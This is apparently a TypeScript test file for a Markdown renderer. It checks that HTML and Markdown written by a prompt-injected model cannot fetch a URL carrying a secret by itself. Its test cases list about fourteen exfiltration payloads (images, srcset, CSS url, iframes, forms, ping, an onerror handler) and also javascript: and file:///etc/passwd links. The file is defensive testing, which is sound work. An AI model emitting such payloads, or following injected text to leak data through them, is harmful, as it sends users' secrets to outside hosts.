import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown'

// What a prompt injection can make the model write, and what must come of it.
const leak = 'http://127.0.0.1:9/leak?q=SECRET'

function dom(text: string): HTMLElement {
  const d = document.createElement('div')
  d.innerHTML = renderMarkdown(text)
  return d
}

describe('renderMarkdown', () => {
  it.each([
    ['a Markdown image', `![chart](${leak})`],
    ['an HTML image', `<img src="${leak}" onerror="window.pwned=1">`],
    ['a source set', `<img src="data:image/png;base64,AAAA" srcset="${leak} 2x">`],
    ['a CSS background', `<div style="background:url(${leak})">x</div>`],
    ['a style sheet', `<style>body{background:url(${leak})}</style>`],
    ['a video', `<video src="${leak}" poster="${leak}"></video>`],
    ['an audio source', `<audio><source src="${leak}"></audio>`],
    ['a frame', `<iframe src="${leak}"></iframe>`],
    ['an object', `<object data="${leak}"></object>`],
    ['an SVG image', `<svg><image href="${leak}"/></svg>`],
    ['a form', `<form action="${leak}"><input name="q" value="x"></form>`],
    ['a table background', `<table background="${leak}"><tr><td>x</td></tr></table>`],
    ['a link element', `<link rel="stylesheet" href="${leak}">`],
    ['a ping', `<a href="https://ok.example" ping="${leak}">ok</a>`],
  ])('%s fetches nothing by itself', (_, text) => {
    const d = dom(text)
    for (const el of Array.from(d.querySelectorAll('*'))) {
      for (const attr of ['src', 'srcset', 'style', 'poster', 'data', 'action', 'background', 'ping']) {
        expect(el.getAttribute(attr) ?? '', `${el.tagName} ${attr}`).not.toContain('127.0.0.1')
      }
      expect(['IMG', 'VIDEO', 'AUDIO', 'SOURCE', 'IFRAME', 'OBJECT', 'STYLE', 'FORM', 'LINK', 'IMAGE'].includes(el.tagName.toUpperCase()) && el.outerHTML.includes('127.0.0.1')).toBe(false)
    }
    expect(d.innerHTML).not.toContain('onerror')
  })

  it('shows a remote image as a link the user can open', () => {
    const a = dom(`![the chart](${leak})`).querySelector('a.held-image')
    expect(a?.textContent).toBe('[image: the chart]')
    expect(a?.getAttribute('href')).toBe(leak)
  })

  it('keeps an inline data image', () => {
    expect(dom('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img')?.getAttribute('src')).toMatch(/^data:image\/png/)
  })

  it('keeps web and mail links with their address in view, and drops the rest', () => {
    const d = dom('[docs](https://docs.example/a?b=1) [mail](mailto:a@b.example) [run](javascript:alert(1)) [file](file:///etc/passwd)')
    const links = Array.from(d.querySelectorAll('a'))
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://docs.example/a?b=1', 'mailto:a@b.example', null, null])
    expect(links[0].getAttribute('title')).toBe('https://docs.example/a?b=1')
    expect(links[0].getAttribute('rel')).toContain('noreferrer')
  })

  it('leaves ordinary Markdown alone', () => {
    const d = dom('# Title\n\nSome **bold** and `code`.\n\n```go\nfmt.Println("x")\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |')
    expect(d.querySelector('h1')?.textContent).toBe('Title')
    expect(d.querySelector('strong')?.textContent).toBe('bold')
    expect(d.querySelector('pre code')?.textContent).toContain('fmt.Println')
    expect(d.querySelectorAll('td')).toHaveLength(2)
  })
})
